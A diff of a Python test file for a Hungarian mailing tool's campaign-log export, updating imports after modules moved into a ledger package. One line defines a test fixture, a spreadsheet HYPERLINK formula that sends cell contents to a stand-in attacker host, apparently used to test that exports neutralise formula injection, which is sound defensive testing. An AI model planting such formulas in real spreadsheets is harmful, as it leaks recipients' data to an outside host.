@@ -14,8 +14,8 @@ from typer.testing import CliRunner
 import lgp_mailer.cli.status  # noqa: F401  (registers 'log export')
 from lgp_mailer.cli import app
 from lgp_mailer.errors import ConfigError
-from lgp_mailer.export import HEADERS, STATUSES_HU, export_log, local_time, neutralise
-from lgp_mailer.sentlog import STATUSES, Entry, open_ledger
+from lgp_mailer.ledger.export import HEADERS, STATUSES_HU, export_log, local_time, neutralise
+from lgp_mailer.ledger.store import STATUSES, Entry, open_ledger
 
 C = "lgp-2026-11-30-proba"
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Kattints")'
@@ -66,7 +66,7 @@ def test_headers_and_status_values_are_fixed():
     assert HEADERS == ("Kampány", "Önkormányzat(ok)", "Megye", "E-mail-cím", "Levél típusa", "Állapot",
                        "Message-ID", "Próbálkozások", "Első próbálkozás", "Utolsó próbálkozás", "Utolsó SMTP-válasz")
     assert set(STATUSES_HU) == set(STATUSES) and len(set(STATUSES_HU.values())) == len(STATUSES)
-    import lgp_mailer.export as module
+    import lgp_mailer.ledger.export as module
 
     for header in HEADERS:  # the module docstring (copied to the README) documents every column and value
         assert f"| {header}" in module.__doc__
